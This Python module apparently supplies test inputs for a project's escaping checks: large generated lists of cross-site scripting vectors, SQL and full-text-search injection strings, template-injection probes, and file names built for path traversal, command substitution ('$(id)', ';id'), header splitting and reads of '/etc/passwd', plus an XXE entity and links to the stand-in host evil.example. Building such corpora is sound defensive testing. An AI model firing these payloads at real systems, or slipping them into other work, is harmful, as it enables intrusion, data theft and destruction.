"""Strings that do harm where somebody forgets that they are text, by the place that they break out of.

Written for this project. Whichever of them runs, sets `stolen`.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "stolen=1"
WORKED_OUT = str(7919 * 104729 * 1299709)  # what sums come to; so many digits that no id has them by chance

_EVENTS = """
onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerdown onpointerover ontoggle onbegin
onanimationstart ontransitionend onwheel oninput onchange onsubmit onreset onscroll onpaste oncut ondrag
onhashchange onpageshow onmessage onresize onplay oncanplay ontimeupdate onbeforetoggle onsearch onkeydown
onauxclick oncontextmenu onbeforeinput onfullscreenchange oncuechange ongotpointercapture oninvalid onselect
""".split()
_TAGS = ("svg", "img src=x", "body", "details open", "input autofocus", "video", "audio src=x", "marquee",
         "iframe", "object data=x", "embed src=x", "math", "select autofocus", "x-own tabindex=1")  # fmt: skip
_ENDS = ("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "-->", "]]>",
         "</select>", "</table>", "</option>", "</math>", "</svg>", "</iframe>", "</xmp>", "</plaintext>")  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
            "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "vbscript:",
            "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:",
            "view-source:javascript:", "feed:javascript:", "jar:javascript:", "java\u0000script:")  # fmt: skip


def _elements() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        yield f"<{_TAGS[number % len(_TAGS)]} {event}={RUN}>"
        yield f"<{_TAGS[(number + 5) % len(_TAGS)]}/{event}='{RUN}'//"
    yield from (f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>",
                f"<script/x>{RUN}</script>", f"<script src=//evil.example/{RUN}></script>",
                f"<script src=data:,{RUN}></script>", f"<script type=module>{RUN}</script>",
                f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
                f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
                f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
                f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
                f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
                f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
                f"<template><script>{RUN}</script></template>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
                f"<iframe src=javascript:{RUN}>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
                f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//evil.example/>",
                "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>",
                "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/)}</style>",
                f"<form action=javascript:{RUN}><button>x", f"<button formaction=javascript:{RUN}>x",
                f"<isindex action=javascript:{RUN} type=submit>", "<img src=//evil.example/x.png>",
                "<img srcset='//evil.example/x.png 1x'>", "<video poster=//evil.example/x.png>",
                "<body background=//evil.example/x.png>", "<input type=image src=//evil.example/x.png>",
                f"<a href=javascript:{RUN} autofocus>x", f"<area href=javascript:{RUN}>", f"<xss onclick={RUN}>x",
                "<dialog open><form method=dialog>", "<portal src=//evil.example/>", "<plaintext>", "<xmp>")  # fmt: skip


def _attributes() -> Iterator[str]:
    for quote in ('"', "'", "`", ""):
        yield f"{quote} onfocus={RUN} autofocus x={quote}"
        yield f"{quote}><svg onload={RUN}>"
        yield f"{quote} style={quote}background:url(//evil.example/)"
        yield f"{quote} hx-get={quote}//evil.example/ hx-trigger={quote}load"
        yield f"{quote} data-hx-on:load={quote}{RUN}"
    yield from (f"&quot; onfocus={RUN} autofocus x=&quot;", f"&#34;><svg onload={RUN}>", f"\\\"><svg onload={RUN}>",
                f"\x00\"><svg onload={RUN}>", f"%22%3E%3Csvg onload={RUN}%3E", f"＂＞＜svg onload={RUN}＞")  # fmt: skip


def _breaks() -> Iterator[str]:
    for end in _ENDS:
        yield f"{end}<script>{RUN}</script>"
        yield f"{end}<img src=x onerror={RUN}>"


def _links() -> Iterator[str]:
    for scheme in _SCHEMES:
        yield f"{scheme}{RUN}//"
        yield f"<a href='{scheme}{RUN}'>x</a>"
    yield from ("//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "/\t/evil.example",
                "https://onrecord@evil.example/", "http://evil.example#@localhost/", "///evil.example//..")  # fmt: skip


def _scripts() -> Iterator[str]:
    for end in ('"', "'", "`", "\\", "\u2028", "\u2029", "\n"):
        yield f"{end};{RUN};//"
        yield f"{end}-({RUN})-{end}"
    yield from (f"${{{RUN}}}", "{{7919*104729*1299709}}", "${7919*104729*1299709}", "#{7919*104729*1299709}", "<%= 7919*104729*1299709 %>", "{% print(7919*104729*1299709) %}", "{{''.__class__}}",
                "{{request.app.state}}", "[[7919*104729*1299709]]", "@(7919*104729*1299709)", "*{7919*104729*1299709}", "{{constructor.constructor('stolen=1')()}}",
                "</script><!--<script>", f"]}};{RUN}//", f"__proto__[{RUN}]", "{\"__proto__\": {\"stolen\": 1}}")  # fmt: skip


def _letters() -> Iterator[str]:
    yield from ("\u202e<b>\u2066", "\x1b[31m<b>", "\x9b31m", "a\u200bb<i>", "\ufeff<svg>", f"<\u0000script>{RUN}</script>",
                f"＜script＞{RUN}＜/script＞", f"<ſcript>{RUN}</ſcript>", f"<ımg src=x onerror={RUN}>", "\ufffe\uffff<u>",
                f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<",
                f"<img src=\"x` `<script>{RUN}</script>\"` `>", f"<!--><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
                f"<?xml-stylesheet href=javascript:{RUN}?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
                f"<svg/onload={RUN}//", f"<img/src/onerror={RUN}>", f"<script>{RUN}", "\\x3cscript\\x3e", "\\u003cscript\\u003e",
                f"&lt;script&gt;{RUN}&lt;/script&gt;", f"%3Cscript%3E{RUN}%3C/script%3E", f"&amp;lt;script&amp;gt;{RUN}")  # fmt: skip


KINDS: dict[str, tuple[str, ...]] = {
    "elements": tuple(_elements()),
    "attributes": tuple(_attributes()),
    "ends of elements": tuple(_breaks()),
    "links": tuple(_links()),
    "scripts and templates": tuple(_scripts()),
    "letters and encodings": tuple(_letters()),
}
STRINGS = tuple(dict.fromkeys(word for words in KINDS.values() for word in words))

# Beginnings, ends and middles of SQL, of the words of full-text search, of JSON paths and of patterns.
_SQL = """
' OR '1'='1 | ' OR 1=1 -- | " OR ""=" | ') OR ('1'='1 | '; DROP TABLE entries; -- | '; DELETE FROM log; -- | 1; SELECT 1
' UNION SELECT null -- | ' UNION SELECT sql FROM sqlite_master -- | ' AND 1=0 UNION SELECT text FROM entries --
1 AND SLEEP(9) | ';SELECT pg_sleep(9)-- | ' || (SELECT current_user) || ' | ' AND 1=CAST((SELECT 1) AS int) --
x' AND randomblob(900000000) -- | ' AND load_extension('x') -- | '; ATTACH DATABASE 'taken.db' AS x; -- | '; PRAGMA x; --
'; COPY entries TO PROGRAM 'x'; -- | $$; SELECT 1; $$ | E'\\x27' | \\' OR 1=1 -- | %27 OR 1=1 -- | ʼ OR 1=1 -- | ＇ OR 1=1
id | id; -- | id DESC | (SELECT 1) | 1,2,3 | entries.id | "id" | `id` | [id] | newest; DROP TABLE log | rowid | oid
CASE WHEN 1=1 THEN 1 ELSE 0 END | null | true | -1 | 0x41 | 1e309 | NaN | 9999999999999999999999 | :id | ? | @x | %s | %(x)s
{} | {0} | % | _ | %_% | a%' | /* | */ | -- | # | ; | ' | '' | " | "" | \\ | ( | ) | (( | )) | [ | ] | { | }
* | ** | ^ | ^a | a* | *a | - | -a | +a | ~ | ~1 | : | a:b | content: | content:* | {content speaker}: a | NOT | NOT a | AND
OR | a AND | a OR | AND a | NEAR | NEAR( | NEAR(a | NEAR(a b, 9) | NEAR/9 | "a | a" | "a" "b" | “a | ”a | '“' | a & b | a | b
!a | !!a | a:* | a <-> b | <-> | 'a':1A | a\\:b | $1 | $.a | $[0] | a->b | a->>'b' | .* | .+ | [a-z]+ | (?i)a | \\d | \\
""".replace("\n", " | ").split(" | ")
QUERIES = tuple(dict.fromkeys(word.strip() for word in _SQL if word.strip()))

# What ends a header or a line of a log, leads out of a folder, or means something to a system.
_NAMES = (
    "../x", "..\\x", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "c:x", "\\\\host\\share\\x",
    "//host/x", "file:///etc/passwd", "....//x", "..%2fx", "%2e%2e/x", "%252e%252e%252fx", "..%c0%afx", ".", "..", "...", "~",
    "~root/x", "$HOME/x", "${IFS}x", "`id`", "$(id)", "|id", ";id", "&id", "x\nid", "-rf", "--help", "CON", "NUL", "COM1",
    "aux.txt", "x.", "x ", " x", "x:y", "x::$DATA", "x\x00.html", "x%00.html", "x?y", "x*y", "<x>", "x|y", 'x"y', "x'y", "x;y",
    ".htaccess", ".ssh/authorized_keys", "proc/self/environ", "dev/null", "a/../../b", "a/./../../b", "a//b", "a/b/", "/", "\\",
    "x\r\nset-cookie: a=b", "x\r\n\r\n<script>", "x\nlocation: //evil.example", "x\rb", "x\x0bb", "x\x85b", "x\u2028b", "x\u2029b",
    'x"; filename="evil.exe', "x\"; filename*=UTF-8''evil.exe", "x; name=y", "x\\\"y", "=?utf-8?q?x?=", "x\ty", "x\x1b[31my",
    "\u202exe.fdp", "\u2066x", "ｘ．ｅｘｅ", "é.txt", "报告.html", "отчёт.pdf", "👩\u200d👩.txt", "ﬁ", "İ", "x" * 300, "é" * 300, "." * 300,
    "x" * 5000, "a/" * 500, "../" * 500, "%" * 50, "%zz", "%u002e", "\ufeffx", "x\ufeff", "\u00adx", "\ud7ff", "\U000e0041", "x.exe",
    "x.html", "x.svg", "x.js", "x.html.txt", "x.tar.gz", "x.php", "x.lnk", "x.desktop", "desktop.ini", "Thumbs.db", "x.scf",
)  # fmt: skip
_AROUND = ("{}", "a/{}", "{}.html", "report-{}")
NAMES = tuple(dict.fromkeys(form.format(name) for form in _AROUND for name in _NAMES))
